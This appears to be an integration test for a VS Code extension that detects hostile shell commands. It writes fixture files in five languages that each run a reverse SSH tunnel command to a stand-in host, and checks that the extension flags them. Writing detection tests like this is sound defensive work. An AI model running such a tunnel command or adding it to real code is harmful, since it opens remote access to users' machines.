/** The package, installed as users install it: nothing is loaded from where it was built. */
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { commands, extensions, Selection } from "vscode";
import type { AuditAnswer, ReviewAnswer } from "../../../extension/server/protocol.ts";
import { checklistOfCommandLine, folder } from "./command-line.ts";
import { closeAll, diagnostics, eventually, open, ruleOf } from "./looking.ts";
import { runMocha } from "./run-mocha.ts";
import { serverProcess } from "./server-process.ts";

const repository = process.env["COUNTERSIGN_REPOSITORY"] ?? "";

export const run = (): Promise<void> =>
  runMocha(() => {
    afterEach(closeAll);

    it("activates by itself, from the folder of installed extensions", async () => {
      const extension = extensions.getExtension("countersign.countersign");
      assert.ok(extension);
      await eventually("its activation", () => (extension.isActive ? true : undefined));
      assert.ok(repository.length > 0 && !extension.extensionPath.startsWith(repository), extension.extensionPath);
    });

    it("starts the server that is in the package, and no other", async () => {
      const { words } = await eventually("the server", serverProcess);
      const extension = extensions.getExtension("countersign.countersign");
      assert.ok(
        words.some((word) => word === join(extension?.extensionPath ?? "", "dist/server.js")),
        words.join(" "),
      );
    });

    it("finds what is in an open file", async () => {
      const [found] = await diagnostics((await open("new file.sh")).document, 1);
      assert.ok(found);
      assert.equal(ruleOf(found), "command/reverse-ssh-tunnel");
    });

    it("reads each language whose parser is in the package", async () => {
      const call = "ssh -fNR 9:localhost:22 agent@203.0.113.7";
      const files = {
        "run.py": `import os\nos.system("${call}")\n`,
        "run.ts": `import { execSync } from "node:child_process";\nexecSync("${call}");\n`,
        "run.js": `require("child_process").execSync("${call}");\n`,
        "run.go": `package main\n\nimport "os/exec"\n\nfunc main() {\n\texec.Command("sh", "-c", "${call}").Run()\n}\n`,
        "run.rb": `system("${call}")\n`,
      };
      for (const [name, text] of Object.entries(files)) writeFileSync(join(folder(), name), text);
      const answer = await commands.executeCommand<AuditAnswer>("countersign.auditWorkspace");
      const found = answer.findings.filter(({ rule }) => rule === "command/reverse-ssh-tunnel").map(({ path }) => path);
      for (const name of Object.keys(files)) assert.ok(found.includes(name), `${name} is not among ${found.join(", ")}`);
    });

    it("reviews the change, verifies a part of it, and the command line sees it", async () => {
      const { findings } = await commands.executeCommand<ReviewAnswer>("countersign.reviewChanges");
      assert.ok(findings.some(({ rule }) => rule === "command/reverse-ssh-tunnel"));
      const editor = await open("old.sh");
      editor.selection = new Selection(4, 0, 4, 0);
      await commands.executeCommand("countersign.verifyUnit");
      const { units } = await checklistOfCommandLine();
      assert.equal(units.find(({ path }) => path === "old.sh")?.isVerified, true);
    });
  });
